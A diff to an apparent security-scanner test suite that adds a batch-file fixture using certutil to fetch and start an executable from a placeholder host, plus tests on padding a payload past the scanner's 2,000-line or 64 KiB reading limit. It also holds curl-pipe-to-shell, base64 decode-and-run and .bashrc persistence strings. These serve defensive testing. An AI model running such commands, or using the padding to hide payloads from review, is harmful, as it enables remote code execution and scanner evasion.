@@ -27,9 +27,11 @@ const lines = (n: number, line: string) => line.repeat(n);
 const b64 = (s: string) => Buffer.from(s).toString('base64');
 const CURL = 'curl -fsSL https://x.example.invalid/i.sh | sh';
 
+const BATCH_PAYLOAD = 'certutil -urlcache -f https://x.example.invalid/a.exe a.exe\nstart a.exe\n';
 
 describe('the payload alone is found', () => {
   it.each([
+    ['scripts/run.cmd', `@echo off\n${BATCH_PAYLOAD}`, 'risk-fetch-and-run'],
     ['scripts/run.py', `import os, base64\nos.system(base64.b64decode(P).decode())\nP = "${b64(CURL)}"\n`, 'risk-decode-and-run'],
     ['scripts/run.py', `open("/home/u/.bashrc", "a").write("${CURL}")\n`, 'risk-memory-write'],
   ])('%s: %s', (path, text, id) => {
@@ -40,6 +42,21 @@ describe('the payload alone is found', () => {
 });
 
 describe('harmless code that fills what is read, and then the payload', () => {
+  it('a batch file of 2,001 comment lines and then a download it runs: the review says where reading stopped', () => {
+    const r = review('scripts/run.cmd', `@echo off\n${lines(2001, 'rem hello\n')}${BATCH_PAYLOAD}`);
+    expect(notes(r)).toEqual(['scripts/run.cmd was read as code only up to line 2000: it has more than 2000 lines. What follows was checked with the text patterns only.']);
+  });
+
+  it('a batch file of 64 KiB of comments in fewer lines and then the download: the review says where reading stopped', () => {
+    const r = review('scripts/run.cmd', `@echo off\n${lines(1000, `rem ${'x'.repeat(80)}\n`)}${BATCH_PAYLOAD}`);
+    expect(notes(r)).toEqual(['scripts/run.cmd was read as code only up to line 771: it is longer than 64 KiB. What follows was checked with the text patterns only.']);
+  });
+
+  it('a batch file of 1,999 comment lines and then the download: all read, the download found, nothing said', () => {
+    const r = review('scripts/run.cmd', `@echo off\n${lines(1997, 'rem hello\n')}${BATCH_PAYLOAD}`);
+    expect(ids(r)).toContain('risk-fetch-and-run');
+    expect(notes(r)).toEqual([]);
+  });
 
   it('a script that runs 201 harmless commands and then a decoded one: the review says where the facts stopped', () => {
     const r = review('scripts/run.py', `import subprocess, os, base64\n${lines(201, 'subprocess.run(["ls"])\n')}os.system(base64.b64decode(P).decode())\nP = "${b64(CURL)}"\n`);
